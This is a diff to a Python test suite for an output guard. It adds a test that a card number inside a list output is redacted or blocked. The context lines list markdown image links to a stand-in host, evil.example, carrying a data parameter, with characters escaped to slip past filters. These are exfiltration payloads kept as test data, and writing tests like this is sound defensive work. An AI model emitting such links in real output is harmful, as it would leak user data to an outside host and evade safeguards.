@@ -144,6 +144,15 @@ def test_a_card_is_one_as_a_float_too(number: str) -> None:
         assert judged(guards, typed, f'{{"n":{other}}}', "k") == (f'{{"n":{other}}}', ())
 
 
+@pytest.mark.parametrize("number", ["4000000000000002", "4000000000000002.0"])
+def test_a_number_in_a_list_is_looked_at_as_one_with_a_name_is(number: str) -> None:
+    guards = [Redactor()]
+    passed, _ = judged(guards, Output(list[float | str]), f"[{number}]", "k")
+    assert passed == '["[redacted:card]"]'
+    (said,) = judged(guards, Output(list[float]), f"[{number}]", "k")[1]
+    assert said.decision == "block"
+
+
 PICTURES = (
     r"![a](https\u003a//evil.example/?d=1)",
     r"![a](\u002f\u002fevil.example/?d=1)",
